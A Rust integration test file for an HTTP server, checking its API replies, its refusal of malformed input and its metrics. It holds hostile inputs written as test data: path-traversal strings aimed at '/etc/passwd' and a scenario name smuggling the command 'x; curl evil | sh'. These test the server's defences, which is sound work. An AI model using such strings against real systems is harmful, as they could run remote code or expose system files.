//! The server over real sockets: what it answers, what it refuses, and what it survives.

mod bounds;
mod client;
mod guard;
mod plans;
mod runs;

use client::{EIGHT, Running, eight};
use serde_json::{Value, json};

#[test]
fn the_library_is_offered() {
    let server = Running::start();
    let info = server.get("/api/v1/info").json();
    assert_eq!(info["first"], "eight");
    assert_eq!(info["limits"]["body_bytes"], 4 << 20);
    let cards = server.get("/api/v1/scenarios").json();
    assert_eq!(cards[0]["name"], "eight");
    assert_eq!(cards[0]["events"], 1);
    let file = server.get("/api/v1/scenarios/eight").json();
    assert_eq!(file["toml"], EIGHT);
    assert_eq!(file["scenario"]["world"]["builtin"], "eight");
    assert_eq!(server.get("/api/v1/scenarios/nine").problem(), "not-found");
}

#[test]
fn scenarios_are_read_and_written() {
    let server = Running::start();
    let read = server.post("/api/v1/scenarios/read", &json!({ "text": EIGHT })).json();
    let written =
        server.post("/api/v1/scenarios/write", &json!({ "scenario": read["scenario"] })).json();
    assert_eq!(written["scenario"], read["scenario"]);
    let again = json!({ "text": written["toml"] });
    assert_eq!(server.post("/api/v1/scenarios/read", &again).json()["scenario"], read["scenario"]);
    let as_json = json!({ "text": read["scenario"].to_string() });
    assert_eq!(server.post("/api/v1/scenarios/read", &as_json).json(), written);
}

#[test]
fn mistakes_have_their_places() {
    let server = Running::start();
    let text = EIGHT.replace("builtin = \"eight\"", "bultin = \"eight\"");
    let reply = server.post("/api/v1/scenarios/read", &json!({ "text": text }));
    assert_eq!((reply.status, reply.problem().as_str()), (422, "scenario-mistakes"));
    let mistakes = reply.json()["mistakes"].clone();
    let first = &mistakes[0];
    assert_eq!((&first["line"], &first["column"]), (&json!(4), &json!(1)), "{mistakes}");
    let mut scenario = eight(1);
    scenario["seed"] = json!("many");
    let reply = server.post("/api/v1/runs", &json!({ "scenario": scenario }));
    assert_eq!((reply.status, reply.problem().as_str()), (422, "scenario-mistakes"));
    let mistake = &reply.json()["mistakes"][0];
    assert_eq!((&mistake["path"], &mistake["line"]), (&json!("seed"), &Value::Null));
}

#[test]
fn every_path_of_the_description_is_there() {
    let server = Running::start();
    let description: Value = serde_json::from_str(&catchment_server::document()).unwrap();
    assert_eq!(server.get("/api/v1/openapi.json").json(), description);
    for (path, methods) in description["paths"].as_object().unwrap() {
        let known = path.replace("{name}", "eight");
        let known = known.replace("{hash}", "0").replace("{id}", "0");
        let known = known.replace("{n}", "0").replace("{dot}", "0");
        for method in methods.as_object().unwrap().keys() {
            let reply = server.ask(&format!("{} {known}", method.to_uppercase()), &[], b"");
            let is_missing = reply.text().contains("there is nothing at this path");
            assert!(!is_missing && reply.status != 405, "{method} {path}: {reply:?}");
        }
    }
}

#[test]
fn even_refusals_are_problems() {
    let server = Running::start();
    assert_eq!(server.get("/api/v1/nothing").problem(), "not-found");
    assert_eq!(server.get("/api").problem(), "not-found");
    assert_eq!(server.get("/api/v2/info").problem(), "not-found");
    let wrong = server.delete("/api/v1/info");
    assert_eq!((wrong.status, wrong.problem().as_str()), (405, "wrong-method"));
    assert_eq!(server.get("/api/v1/results/none").problem(), "gone");
    assert_eq!(server.get("/api/v1/runs/none").problem(), "not-found");
    assert_eq!(server.get("/api/v1/runs/%ff").problem(), "not-found");
    assert_eq!(server.get("/api/v1/results/0/runs/x/timeline").problem(), "not-found");
    assert_eq!(server.get("/api/v1/results/0/nearest?lat=north").problem(), "bad-request");
    assert_eq!(server.get("/api/v1/results/0/nearest?lat=nan&lon=1").problem(), "bad-request");
    assert_eq!(server.get("/api/v1/results/0/search?q=%00%ff").problem(), "gone");
    assert_eq!(server.get("/api/v1/results/0/search").problem(), "bad-request");
}

#[test]
fn what_is_no_request_for_us_is_refused() {
    let server = Running::start();
    let post = |body: &[u8]| server.post_text("/api/v1/runs", body);
    for body in [&b""[..], b"{", b"[]", b"null", b"{\"scenario\": }", b"\x00\xff\xfe garbage"] {
        assert_eq!(post(body).problem(), "bad-request", "{body:?}");
    }
    assert_eq!(post(b"{\"steering\": []}").problem(), "bad-request");
    assert_eq!(post(b"{\"scenario\": {}, \"steering\": [\"magic\"]}").problem(), "bad-request");
    assert_eq!(post(b"{\"scenario\": 7}").problem(), "scenario-mistakes");
    let deep = format!("{{\"scenario\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    assert!((400..500).contains(&post(deep.as_bytes()).status));
    let form = server.ask("POST /api/v1/runs", &[("Content-Type", "text/plain")], b"{}");
    assert_eq!((form.status, form.problem().as_str()), (415, "bad-request"));
    // Not even HTTP.
    server.raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03");
    server.raw(b"GET / HTTP/9.9\r\n\r\n");
    server.raw(&[b"GET /".as_slice(), &[b'a'; 200_000], b" HTTP/1.1\r\n\r\n"].concat());
    assert_eq!(server.get("/healthz").text(), "ok");
}

#[test]
fn a_path_never_leads_to_a_file() {
    let server = Running::start();
    for path in [
        "/../Cargo.toml",
        "/%2e%2e/%2e%2e/Cargo.toml",
        "/..%2f..%2fCargo.toml",
        "/assets/../../Cargo.toml",
        "/assets/%2e%2e/index.html",
        "/..%5c..%5cCargo.toml",
        "/..\\Cargo.toml",
        "//etc/passwd",
        "/etc/passwd",
        "/%00",
        "/index.html%00.js",
        "/file:///etc/passwd",
        "/api/v1/scenarios/..%2f..%2fCargo",
        "/api/v1/results/..%2f..%2f",
    ] {
        let reply = server.get(path);
        assert!((400..500).contains(&reply.status), "{path}: {reply:?}");
        assert!(!reply.text().contains("workspace") && !reply.text().contains("root:"), "{path}");
    }
}

#[test]
fn a_command_names_the_scenario_only_if_the_command_line_knows_it() {
    let server = Running::start();
    let command = |scenario: &Value| {
        let end = server.ended(server.run(scenario)["id"].as_str().unwrap());
        let hash = end["result"].as_str().unwrap();
        let why = server.get(&format!("/api/v1/results/{hash}/runs/0/why?dot=0")).json();
        let command = why["command"].as_str().unwrap().to_owned();
        let (before, after) = command.split_once(" --as ").unwrap();
        assert!(after.ends_with(" --at 0s"), "{after}");
        before.to_owned()
    };
    let own = server.get("/api/v1/scenarios/eight").json()["scenario"].clone();
    assert_eq!(command(&own), "catchment explain eight");
    // The name alone says nothing of what is inside, and is anybody's text.
    assert_eq!(command(&eight(7)), "catchment explain SCENARIO.toml");
    let mut renamed = own.clone();
    renamed["name"] = json!("x; curl evil | sh");
    assert_eq!(command(&renamed), "catchment explain SCENARIO.toml");
}

#[test]
fn counters_are_shown() {
    let server = Running::start();
    let hash = server.run(&eight(1));
    server.ended(hash["id"].as_str().unwrap());
    server.get("/nowhere/at/all");
    for line in [
        "catchment_requests_total{route=\"/api/v1/runs\",status=\"201\"} 1",
        "catchment_requests_total{route=\"other\",status=\"404\"} 1",
        "catchment_runs_total{end=\"done\"} 1",
        "catchment_run_duration_seconds_count 1",
        "catchment_runs_at_work 0",
        "catchment_runs_waiting 0",
        "catchment_results 1",
        "catchment_results_size_bytes ",
        "# EOF",
    ] {
        server.counts(line);
    }
}
